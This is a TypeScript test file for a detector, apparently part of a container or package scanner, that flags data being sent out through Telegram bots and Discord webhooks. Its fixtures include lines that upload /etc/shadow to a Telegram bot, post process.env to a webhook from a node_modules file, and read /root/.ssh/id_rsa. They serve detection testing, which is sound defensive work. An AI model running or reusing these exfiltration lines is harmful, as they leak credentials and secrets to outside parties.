import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type DetectorCase, testCases } from '../../../testing/detector-cases.ts';
import { inspectFixture } from '../../../testing/fixture.ts';
import { chatExfiltration } from './index.ts';

const ID = 'network/chat-exfiltration';
/** Shaped like one, and nobody's. */
const TOKEN = '1234567890:AAxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx';
const HOOK = `https://discord.com/api/webhooks/123456789012345678/${'x'.repeat(68)}`;

const cases: readonly DetectorCase[] = [
  {
    name: 'a bot',
    files: { 'x.sh': `#!/bin/sh\ncurl https://api.telegram.org/bot${TOKEN}/sendMessage -d text=up\n` },
    expected: [`review ${ID} x.sh`],
  },
  {
    name: 'a webhook',
    files: { 'x.py': `requests.post("${HOOK}", json={})\n` },
    expected: [`review ${ID} x.py`],
  },
  {
    name: 'a webhook in configuration',
    files: { 'app/c.json': `{"hook": "${HOOK}"}` },
    expected: [`review ${ID} app/c.json`],
  },
  {
    name: 'a webhook in a program',
    files: { 'app/a': `\x7fELF\x02\x01\x01\0${HOOK}\0` },
    expected: [`review ${ID} app/a`],
  },
  {
    name: 'a bot from a shell, its token given',
    files: { 'x.sh': '#!/bin/sh\ncurl "https://api.telegram.org/bot$TOKEN/sendMessage" -d text=up\n' },
    expected: [`review ${ID} x.sh`],
  },
  {
    name: 'a bot and a secret',
    files: {
      'x.sh': `#!/bin/sh\ncurl https://api.telegram.org/bot${TOKEN}/sendDocument -F document=@/etc/shadow\n`,
    },
    expected: [`block ${ID} x.sh`],
  },
  {
    name: 'a webhook and the environment',
    files: {
      'node_modules/a/i.js': `fetch("${HOOK}", { method: "POST", body: JSON.stringify(process.env) })\n`,
    },
    expected: [`block ${ID} node_modules/a/i.js`],
  },
  {
    name: 'a token kept apart, and a key',
    files: {
      'x.py': `T = "${TOKEN}"\nu = f"https://api.telegram.org/bot{T}/x"\nd = open("/root/.ssh/id_rsa")\n`,
    },
    expected: [`block ${ID} x.py`],
  },
  {
    name: 'at the start',
    config: { cmd: ['sh', '-c', `curl -d a=b ${HOOK}`] },
    expected: [`review ${ID} Cmd`],
  },
  {
    name: 'a bot of its own is a note',
    files: { 'app/bot.js': 'fetch(`https://api.telegram.org/bot${token}/getMe`)\n' },
    expected: [`note ${ID} app/bot.js`],
  },
  {
    name: 'nothing: a library',
    files: { 'usr/lib/python3/dist-packages/telegram/bot.py': 'URL = "https://api.telegram.org/bot"\n' },
    expected: [],
  },
  { name: 'nothing: documentation', files: { 'README.md': HOOK }, expected: [] },
];

testCases(chatExfiltration, cases);

test(`${ID}: the token is masked`, () => {
  const files = { 'x.sh': `#!/bin/sh\ncurl ${HOOK}\n` };
  const [finding] = inspectFixture({ layers: [files], catalogers: [] }, [chatExfiltration]).findings;
  assert.equal(finding?.evidence, 'discord.com/api/webhooks/123456789012345678/***');
  assert.equal(finding?.location.line, 2);
});
